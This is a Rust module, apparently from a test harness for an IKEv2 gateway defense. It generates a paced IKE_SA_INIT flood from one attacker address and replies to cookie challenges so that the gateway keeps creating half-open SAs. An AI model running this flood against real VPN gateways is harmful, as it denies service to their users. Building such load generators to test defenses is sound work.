//! A flood from one address where somebody is: whoever answers its cookies, or its requests if no
//! cookie is wanted, makes half-open SAs.

use std::{
    io::ErrorKind,
    net::{IpAddr, UdpSocket},
};

use chacha20::{
    ChaCha8Rng,
    rand_core::{Rng, SeedableRng},
};
use ikexdp_proto::{
    message::init::InitReply,
    types::{IKE_PORT, Spi},
    wire::header::Header,
};

use super::{ATTACKER, Pace, message::Opening};

/// Sends until it is over.
pub(super) fn send(gateway: IpAddr, pace: &mut Pace<'_>) {
    let socket = UdpSocket::bind((ATTACKER, IKE_PORT)).unwrap();
    socket.connect((gateway, IKE_PORT)).unwrap();
    socket.set_nonblocking(true).unwrap();
    let opening = Opening::usual();
    let mut random = ChaCha8Rng::seed_from_u64(2 * 8019);
    while let Some(due) = pace.next() {
        let mut sent = 0;
        // Those that were asked for a cookie come first.
        while sent < due {
            let Some((initiator, cookie)) = asked(&socket) else {
                break;
            };
            sent += put(&socket, &opening.by_spi(initiator, Some(&cookie)));
        }
        let more = due.saturating_sub(sent);
        for _ in 0..more {
            let initiator = Spi(random.next_u64() | 1);
            sent += put(&socket, &opening.by_spi(initiator, None));
        }
        pace.count(sent);
    }
}

/// The next cookie that is asked for, and for which SPI; what else comes is of no interest.
fn asked(socket: &UdpSocket) -> Option<(Spi, Vec<u8>)> {
    let mut buffer = [0; 2048];
    loop {
        let length = match socket.recv(&mut buffer) {
            Ok(length) => length,
            Err(error) if error.kind() == ErrorKind::WouldBlock => return None,
            // Nobody listens yet, or any more.
            Err(_) => continue,
        };
        let (header, payloads) = Header::decode(&buffer[..length]).unwrap();
        let reply = InitReply::decode(header.next_payload, payloads);
        if let Ok(InitReply::Cookie(cookie)) = reply {
            return Some((header.spis.initiator, cookie.to_vec()));
        }
    }
}

/// Sends a request; 1 if there was room for it.
fn put(socket: &UdpSocket, request: &[u8]) -> u64 {
    u64::from(socket.send(request).is_ok())
}
